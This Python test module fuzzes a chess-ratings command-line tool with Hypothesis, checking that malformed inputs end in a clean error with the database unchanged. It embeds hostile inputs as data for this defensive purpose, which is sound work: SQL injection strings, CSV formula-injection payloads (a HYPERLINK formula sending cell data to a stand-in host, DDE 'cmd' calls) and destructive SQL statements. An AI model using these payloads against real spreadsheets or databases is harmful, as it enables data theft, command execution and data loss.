"""Bad input sweep: Hypothesis feeds malformed CSV rows, absurd dates, huge numbers, NUL
bytes, undecodable bytes, names with quotes or SQL fragments, formula-like names
(``=HYPERLINK(...)``, ``+cmd|...``) and ids of 10 to 30 digits (ASCII or other digits)
through every command that takes input. Each run must end in success or in ``Error: ...``
(exit 1; exit 2 for click's usage errors), never in a traceback; a failed command must leave
the database file byte for byte as it was, and a successful one must store nothing beyond
``ratings.limits`` (SQLite would keep it, PostgreSQL would refuse it).

Every example runs on a fresh copy of one small template database: four players, games in
January and February 2026, January rated (so corrections, re-rate marks and "before the
rating history" refusals are all reachable).
"""

from __future__ import annotations

import os
import shutil
import sqlite3
from collections import Counter, defaultdict
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ratings import limits
from ratings.cli import cli
from ratings.io.csv import GAME_COLUMNS, PLAYER_COLUMNS
from tests import support

EXAMPLES = int(os.environ.get("RATINGS_SWEEP_EXAMPLES", "30"))
"""Examples per test; raise it for a longer sweep (the figures in docs/RELIABILITY.md)."""

SWEEP = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,  # the examples are random each run; failures print their reproduction
)

TRIED: dict[str, Counter[int]] = defaultdict(Counter)
"""Exit codes seen per command path (the figures in docs/RELIABILITY.md)."""

# --- the database ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Four players, five games over two months, January rated."""
    db = tmp_path_factory.mktemp("sweep") / "template.db"
    runner = CliRunner()
    for args in (
        ["init"],
        ["player", "add", "Smith, Ann", "--rating", "1800", "--fide-id", "1001"],
        ["player", "add", "Jones, Bob", "--rating", "1650", "--birthdate", "2009"],
        ["player", "add", "O'Hara, Cy", "--rating", "2405"],
        ["player", "add", "Unrated, Dee"],
        ["game", "add", "1", "2", "1-0", "--date", "2026-01-10", "--event", "Club Ch"],
        ["game", "add", "3", "1", "1/2-1/2", "--date", "2026-01-17", "--event", "Club Ch"],
        ["game", "add", "2", "3", "0-1", "--date", "2026-01-24", "--event", "Club Ch"],
        ["rate"],
        ["game", "add", "4", "1", "0-1", "--date", "2026-02-07", "--event", "Feb Open"],
        ["game", "add", "2", "4", "1/2-1/2", "--date", "2026-02-14", "--event", "Feb Open"],
    ):
        result = runner.invoke(cli, ["--db", str(db), *args], catch_exceptions=False)
        assert result.exit_code == 0, (args, result.output)
    return db


@pytest.fixture(scope="module")
def work(template: Path) -> Path:
    """The path each example copies the template to (one folder for the module)."""
    return template.with_name("work.db")


def fresh(template: Path, work: Path) -> Path:
    """A pristine copy of the template at ``work`` (no journal left from before)."""
    for leftover in work.parent.glob("work.db*"):
        leftover.unlink()
    shutil.copyfile(template, work)
    return work


def run(db: Path, name: str, *args: str) -> Result:
    """Invoke the CLI and check the contract: success, or a clean error and no change."""
    before = db.read_bytes()
    result = support.run(db, *args)  # a traceback fails the test
    TRIED[name][result.exit_code] += 1
    assert "Traceback" not in result.output, (args, result.output)
    assert result.exit_code in (0, 1, 2), (args, result.exit_code, result.output)
    if result.exit_code == 1:
        errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
        assert errors, (args, result.output)
    if result.exit_code == 2:
        assert "Error: " in result.stderr, (args, result.output)
    if result.exit_code != 0:
        assert db.read_bytes() == before, ("a failed command changed the file", args)
    else:
        with sqlite3.connect(db) as conn:
            assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
            assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
            assert conn.execute(BEYOND_LIMITS).fetchall() == [], args
    return result


BEYOND_LIMITS = f"""
    SELECT 'player', id FROM players WHERE length(name) > {limits.MAX_NAME_LENGTH}
        OR fide_id NOT BETWEEN 1 AND {limits.MAX_FIDE_ID}
    UNION ALL SELECT 'event', id FROM events WHERE length(name) > {limits.MAX_EVENT_LENGTH}
    UNION ALL SELECT 'game', id FROM games WHERE length(round) > {limits.MAX_ROUND_LENGTH}
    UNION ALL SELECT 'import', id FROM imports
        WHERE length(file_name) > {limits.MAX_FILE_NAME_LENGTH}
"""
"""Stored values beyond ratings.limits: SQLite keeps them, PostgreSQL would refuse them."""


# --- strategies -----------------------------------------------------------------------

FRAGMENTS = [
    "'; DROP TABLE players;--",
    "Robert'); DELETE FROM games;--",
    '" OR 1=1 --',
    "O'Hara, Cy",
    "smith, ann",
    "Smith, Ann",
    "fide:1001",
    "fide:0",
    "fide:99999999999999999999",
    "1",
    "4",
    "0",
    "-1",
    "99999999999999999999999",
    "9223372036854775808",
    "\u00b2",  # superscript two: str.isdigit() is true, int() refuses it
    "\u0967\u0968",  # Devanagari 12: int() accepts it
    "1e309",
    "NaN",
    "%s",
    "%(name)s",
    "?",
    "\x00",
    "a\x00b",
    "\udcff",
    "\u202egnp.exe",
    "\ufeffSmith, Ann",
    " ",
    "\t",
    "\n",
    "x" * 201,
    "",
]
FORMULAS = [
    '=HYPERLINK("http://x/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\t@SUM(1+1)",
    "-12",
]
"""Formula-like names (OWASP CSV injection): stored as written or refused, never a crash."""
DIGITS = ["0", "\u0660", "\u06f0", "\u0966", "\uff10", "\U0001d7ce", "\u2070"]
"""The zero of ASCII, Arabic-Indic, Extended Arabic-Indic, Devanagari, full-width and
mathematical bold digits (int() reads them all), and superscripts (isdigit() is true)."""
_SUPERSCRIPTS = "\u2070\u00b9\u00b2\u00b3\u2074\u2075\u2076\u2077\u2078\u2079"


def _written(number: int, zero: str) -> str:
    if zero == "\u2070":
        return "".join(_SUPERSCRIPTS[int(d)] for d in str(number))
    return "".join(chr(ord(zero) + int(d)) for d in str(number))


HUGE_IDS = st.builds(
    _written, st.integers(min_value=10**9, max_value=10**30 - 1), st.sampled_from(DIGITS)
)
"""Ids of 10 to 30 digits, in ASCII or other digits: FIDE ids, player, game and event ids."""
HOSTILE = st.one_of(
    st.sampled_from(FORMULAS), HUGE_IDS, HUGE_IDS.map("fide:".__add__)
)  # fmt: skip
DATES = [
    "2026-01-15",
    "2026-02-20",
    "2026-03-01",
    "2025-12-31",
    "1900-01-01",
    "2100-12-31",
    "0000-01-01",
    "9999-12-31",
    "2026-02-30",
    "2026-13-01",
    "2026-1-5",
    "20260115",
    "\uff12\uff10\uff12\uff16-01-15",
    "2026-01-15T10:00",
    "-2026-01-01",
    "2026",
    "15.01.2026",
]
PERIODS = [
    "2026-01",
    "2026-02",
    "2026-03",
    "2025-12",
    "2026-00",
    "2026-13",
    "0000-01",
    "9999-12",
    "2026-1",
    "26-01",
    "\uff12\uff10\uff12\uff16-01",
    "2026-01-01",
    "1850-01",
]
RESULTS = ["1-0", "0-1", "1/2-1/2", "½-½", "=", "+/-", "-/+", "-/-", "1-1", "2-0", "", "½"]


def nasty(choices: list[str]) -> st.SearchStrategy[str]:
    """Half the time a plausible value (so that later checks are reached too), else a
    known troublemaker, random text, or both glued together."""
    text = st.text(max_size=24)
    plausible = st.sampled_from(choices)
    return st.one_of(
        plausible,
        plausible,
        plausible,
        st.sampled_from(FRAGMENTS),
        HOSTILE,
        text,
        st.tuples(st.sampled_from(choices + FRAGMENTS), text).map("".join),
    )


NUMBERS = st.one_of(
    st.integers(min_value=0, max_value=3600).map(str),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(
        ["", "1e3", "0x10", "1_000", "\uff11\uff12", "-0", " 5", "NaN", "3500", "3501"]
    ),
    HUGE_IDS,
)
NAMES = nasty(["Smith, Ann", "New, Player"])
REFS = nasty(["1", "2", "3", "4", "Smith, Ann", "fide:1001", "Unrated, Dee"])


def option(flag: str, values: st.SearchStrategy[str]) -> st.SearchStrategy[list[str]]:
    """An optional ``--flag VALUE`` pair."""
    return st.one_of(st.just([]), values.map(lambda v: [flag, v]))


def options(*pairs: tuple[str, st.SearchStrategy[str]]) -> st.SearchStrategy[list[str]]:
    """Any subset of optional flags, concatenated."""
    return st.tuples(*(option(flag, values) for flag, values in pairs)).map(
        lambda parts: [arg for part in parts for arg in part]
    )


def csv_file(columns: tuple[str, ...], cells: st.SearchStrategy[str]) -> st.SearchStrategy[bytes]:
    """A CSV file that is often almost right: a plausible header and rows of bad cells,
    odd quoting, line endings and encodings; sometimes raw bytes."""
    header = st.one_of(
        st.permutations(columns).map(list),
        st.lists(st.sampled_from([*columns, "unknown", "", "name", "date"]), max_size=8),
    )

    row = st.lists(cells, max_size=len(columns) + 2)
    quoted = st.sampled_from(['"', "", "'"])
    ending = st.sampled_from(["\n", "\r\n", "\r"])
    encoding = st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"])

    @st.composite
    def build(draw: st.DrawFn) -> bytes:
        head = draw(header)
        rows = draw(st.lists(row, max_size=6))
        q = draw(quoted)
        end = draw(ending)
        lines = [",".join(head)] + [",".join(f"{q}{c}{q}" for c in r) for r in rows]
        text = end.join(lines) + draw(st.sampled_from(["", end]))
        try:
            return text.encode(draw(encoding), errors="surrogateescape")
        except UnicodeEncodeError:
            return text.encode("utf-8", errors="surrogatepass")

    return st.one_of(build(), st.binary(max_size=200))


PLAYER_CELLS = nasty(["Smith, Ann", "New, Player", "2009", "2009-05-01", "1001", "1800",
                      "true", "maybe", "m", "x", "NED", "GM", "XX"])  # fmt: skip
GAME_CELLS = nasty(["2026-02-20", "2026-01-05", "Smith, Ann", "Jones, Bob", "1001", "1-0",
                    "1/2-1/2", "+/-", "Club Ch", "1"])  # fmt: skip


# --- the sweep: one test per command path ---------------------------------------------


@SWEEP
@given(
    name=NAMES,
    extra=options(
        ("--birthdate", nasty(DATES)),
        ("--fide-id", NUMBERS),
        ("--rating", NUMBERS),
        ("--games", NUMBERS),
        ("--federation", nasty(["NED", "ned", "NE"])),
        ("--title", nasty(["GM", "gm", "XX"])),
        ("--sex", nasty(["m", "f", "x"])),
    ),
)
def test_player_add(template: Path, work: Path, name: str, extra: list[str]) -> None:
    run(fresh(template, work), "player add", "player", "add", name, *extra)


@SWEEP
@given(
    ref=REFS,
    extra=options(
        ("--name", NAMES),
        ("--birthdate", nasty(DATES)),
        ("--fide-id", NUMBERS),
        ("--rating", NUMBERS),
        ("--games", NUMBERS),
        ("--title", nasty(["GM", "XX"])),
    ),
)
def test_player_edit(template: Path, work: Path, ref: str, extra: list[str]) -> None:
    run(fresh(template, work), "player edit", "player", "edit", ref, *extra)


@SWEEP
@given(
    white=REFS,
    black=REFS,
    result=nasty(RESULTS),
    date=nasty(DATES),
    extra=options(("--event", nasty(["Club Ch", "Feb Open"])), ("--round", NUMBERS)),
)
def test_game_add(
    template: Path, work: Path, white: str, black: str, result: str, date: str, extra: list[str]
) -> None:
    run(fresh(template, work), "game add", "game", "add", white, black, result, "--date", date,
        *extra)  # fmt: skip


@SWEEP
@given(
    game=nasty(["1", "2", "4", "5", "99"]),
    extra=options(("--result", nasty(RESULTS)), ("--date", nasty(DATES)), ("--round", NUMBERS)),
    rated=st.sampled_from([[], ["--rated"], ["--unrated"]]),
)
def test_game_edit_and_void(
    template: Path, work: Path, game: str, extra: list[str], rated: list[str]
) -> None:
    db = fresh(template, work)
    run(db, "game edit", "game", "edit", game, *extra, *rated)
    run(fresh(template, work), "game void", "game", "void", game)


@SWEEP
@given(data=csv_file(PLAYER_COLUMNS, PLAYER_CELLS))
def test_import_players(template: Path, work: Path, data: bytes) -> None:
    db = fresh(template, work)
    path = work.with_name("players.csv")
    path.write_bytes(data)
    run(db, "import players", "import", "players", str(path))


@SWEEP
@given(data=csv_file(GAME_COLUMNS, GAME_CELLS))
def test_import_games(template: Path, work: Path, data: bytes) -> None:
    db = fresh(template, work)
    path = work.with_name("games.csv")
    path.write_bytes(data)
    run(db, "import games", "import", "games", str(path))


TRF_LINE = st.one_of(
    st.sampled_from([
        "012 Club Ch",
        "042 2026-02-01",
        "052 2026-02-02",
        "001    1 m    Smith, Ann                        1800 NED     1001 1990/01/01  1.0    1"
        "     2 w 1",
        "001    2 m    Jones, Bob                        1650 NED     1002 2009/01/01  0.0    2"
        "     1 b 0",
        "001    3      '; DROP TABLE players;--          99999                                "
        "     0 - +",
    ]),
    st.text(max_size=90),
)  # fmt: skip


def _trf_player(no: int, name: str, fide_id: str, opponent: int) -> str:
    """A well-formed ``001`` line (columns as in the TRF16 description) carrying ``name``
    and ``fide_id``, which may be formula-like or huge."""
    colour, result = ("w", "1") if no < opponent else ("b", "0")
    return (
        f"001 {no:>4} m    {name[:33]:<33} 1800 NED {fide_id[:11]:>11} 1990/01/01  1.0 "
        f"{no:>4}  {opponent:>4} {colour} {result}"
    )


TRF_HOSTILE = st.builds(
    _trf_player,
    st.sampled_from([1, 2]),
    st.one_of(st.sampled_from(FORMULAS), st.sampled_from(["Smith, Ann", "New, Player"])),
    st.one_of(HUGE_IDS, st.sampled_from(["1001", "", "0"])),
    st.sampled_from([1, 2]),
)
"""Player lines that parse, with formula-like names and huge or non-ASCII FIDE ids."""


@SWEEP
@given(
    lines=st.lists(st.one_of(TRF_LINE, TRF_HOSTILE), max_size=6),
    ending=st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_import_trf(template: Path, work: Path, lines: list[str], ending: str) -> None:
    db = fresh(template, work)
    path = work.with_name("event.trf")
    path.write_bytes(ending.join(lines).encode("utf-8", errors="surrogateescape"))
    run(db, "import trf", "import", "trf", str(path))


PGN_TAG = st.tuples(
    st.sampled_from(["White", "Black", "Result", "Date", "EventDate", "Event", "Round",
                     "WhiteFideId", "BlackFideId", "Nonsense"]),
    nasty(["Smith, Ann", "1-0", "*", "2026.02.10", "2026.??.??", "1001"]),
).map(lambda tag: f'[{tag[0]} "{tag[1]}"]')  # fmt: skip


PGN_GAME = st.builds(
    lambda white, black, ids, event, round_: [
        f'[White "{white}"]', f'[Black "{black}"]', '[Result "1-0"]', '[Date "2026.02.10"]',
        f'[WhiteFideId "{ids[0]}"]', f'[BlackFideId "{ids[1]}"]', f'[Event "{event}"]',
        f'[Round "{round_}"]',
    ],
    st.one_of(st.sampled_from(FORMULAS), st.just("New, Player")),
    st.sampled_from(["Smith, Ann", "Jones, Bob", "Other, Oz"]),
    st.tuples(st.one_of(HUGE_IDS, st.just("1001")), st.sampled_from(["", "0", "1002"])),
    st.one_of(st.just("Feb Open"), st.sampled_from(FORMULAS), st.text(min_size=190, max_size=210)),
    st.one_of(st.just("1"), st.text(min_size=15, max_size=25)),
)  # fmt: skip
"""A finished game whose tags reach the register: formula-like names, huge ids, long text."""


@SWEEP
@given(games=st.lists(st.one_of(st.lists(PGN_TAG, max_size=8), PGN_GAME), max_size=3))
def test_import_pgn(template: Path, work: Path, games: list[list[str]]) -> None:
    db = fresh(template, work)
    path = work.with_name("games.pgn")
    text = "\n\n".join("\n".join(tags) + "\n\n1. e4 e5 *" for tags in games)
    path.write_bytes(text.encode("utf-8", errors="surrogateescape"))
    run(db, "import pgn", "import", "pgn", str(path))


@SWEEP
@given(
    period=nasty(PERIODS),
    ref=REFS,
    event=nasty(["Club Ch", "Feb Open"]),
    method=nasty(["fide", "own", "400"]),
    fmt=st.sampled_from(["table", "csv", "json", "xml"]),
)
def test_reports(
    template: Path, work: Path, period: str, ref: str, event: str, method: str, fmt: str
) -> None:
    db = fresh(template, work)
    run(db, "list --period", "list", "--period", period, "--format", fmt)
    run(db, "card", "card", ref, "--period", period)
    run(db, "history", "history", ref, "--format", fmt)
    run(db, "performance --period", "performance", ref, "--period", period, "--method", method)
    run(db, "performance --event", "performance", ref, "--event", event)
    run(db, "rate --through", "rate", "--through", period)


@SWEEP
@given(event=nasty(["1", "2", "Club Ch", "Feb Open", "99999999999999999999"]))
def test_export_trf(template: Path, work: Path, event: str) -> None:
    db = fresh(template, work)
    out = work.with_name("out.trf")
    out.unlink(missing_ok=True)
    run(db, "export trf", "export", "trf", event, "--output", str(out))


SQL = nasty([
    "SELECT * FROM players",
    "SELECT name FROM current_ratings WHERE name = 'x'",
    "DELETE FROM players",
    "UPDATE players SET name = 'x'",
    "DROP TABLE games",
    "ATTACH 'x.db' AS x",
    "PRAGMA writable_schema = 1",
    "CREATE TABLE t (a)",
    "SELECT 1; DROP TABLE players",
    "VACUUM INTO 'copy.db'",
    "SELECT load_extension('x')",
])  # fmt: skip


@SWEEP
@given(query=SQL, fmt=st.sampled_from(["table", "csv", "json"]))
def test_sql(template: Path, work: Path, query: str, fmt: str) -> None:
    db = fresh(template, work)
    files = sorted(p.name for p in db.parent.iterdir())
    before = db.read_bytes()
    run(db, "sql", "sql", query, "--format", fmt)
    # sql never writes, whatever it is given, and never creates a file
    assert db.read_bytes() == before
    assert sorted(p.name for p in db.parent.iterdir()) == files


@SWEEP
@given(
    r1=NUMBERS,
    r2=NUMBERS,
    result=nasty(["1", "0", "0.5", "1/2", "=", "\u00bd"]),
    k=NUMBERS,
    date=nasty(DATES),
    opponents=nasty(["1500,1700", "1500", ",", "1500,,1700"]),
    score=nasty(["1.5", "0", "2", "-1", "1/2"]),
)
def test_calculators(
    template: Path,
    work: Path,
    r1: str,
    r2: str,
    result: str,
    k: str,
    date: str,
    opponents: str,
    score: str,
) -> None:
    db = fresh(template, work)  # the calculators never open it
    run(db, "calc expected", "calc", "expected", r1, r2)
    run(db, "calc change", "calc", "change", r1, r2, result, "--k", k, "--date", date)
    run(db, "calc performance", "calc", "performance", "--opponents", opponents, "--score", score)


@SWEEP
@given(
    extra=options(
        ("--system", nasty(["fide", "club", "elo"])),
        ("--k", NUMBERS),
        ("--start-rating", NUMBERS),
        ("--expected", nasty(["table", "curve"])),
        ("--period-months", nasty(["1", "3", "5", "12"])),
    )
)
@pytest.mark.slow  # 30 real inits of random options
def test_init(template: Path, extra: list[str]) -> None:
    db = template.with_name("new.db")
    db.unlink(missing_ok=True)
    result = CliRunner().invoke(cli, ["--db", str(db), "init", *extra])
    TRIED["init"][result.exit_code] += 1
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 1, 2), result.output
    # a refused init leaves no file behind; a successful one a database at the newest schema
    assert db.exists() == (result.exit_code == 0), result.output


# --- odd paths ----------------------------------------------------------------------------

PATH_PART = st.text(
    alphabet=st.sampled_from(list("#?%&=;+@ ab1_.'\"ü☃éß\u00a0")), min_size=1, max_size=24
).filter(lambda s: s.strip(". ") != "" and not s.startswith("-"))
"""A file or folder name with the characters URIs and URLs treat specially."""

GAMES_CSV = (
    "date,white,black,result,event,round\n"
    '2026-02-20,"Smith, Ann","Jones, Bob",1-0,Odd Path Cup,1\n'
    '2026-02-21,"Jones, Bob","O\'Hara, Cy",1/2-1/2,Odd Path Cup,2\n'
)


@SWEEP
@given(
    folder=PATH_PART,
    name=PATH_PART,
    other=PATH_PART,
    command=st.sampled_from(
        ["list", "sql", "player add", "db backup", "db current", "import games", "rate"]
    ),
)
def test_odd_database_paths(
    template: Path, folder: str, name: str, other: str, command: str
) -> None:
    """A --db path (and a backup or input path) with #, ?, %, spaces or non-ASCII is that
    file: every command works on it and creates no other file."""
    root = template.parent / "odd"
    shutil.rmtree(root, ignore_errors=True)
    (root / folder).mkdir(parents=True)
    db = root / folder / f"{name}.db"
    shutil.copyfile(template, db)
    second = root / folder / f"{other}.2"
    args = {
        "list": ["list"],
        "sql": ["sql", "SELECT count(*) AS n FROM players"],
        "player add": ["player", "add", "Odd, Path"],
        "db backup": ["db", "backup", str(second)],
        "db current": ["db", "current"],
        "import games": ["import", "games", str(second)],
        "rate": ["rate"],
    }[command]
    if command == "import games":
        second.write_text(GAMES_CSV, encoding="utf-8")
    result = run(db, f"odd path: {command}", *args)
    assert result.exit_code == 0, (db, args, result.output)
    expected = {db.name} | ({second.name} if command in ("db backup", "import games") else set())
    assert {p.name for p in (root / folder).iterdir()} == expected
    assert [p.name for p in root.iterdir()] == [folder]
    if command == "sql":
        assert result.stdout.split()[-1] == "4"
    shutil.rmtree(root)
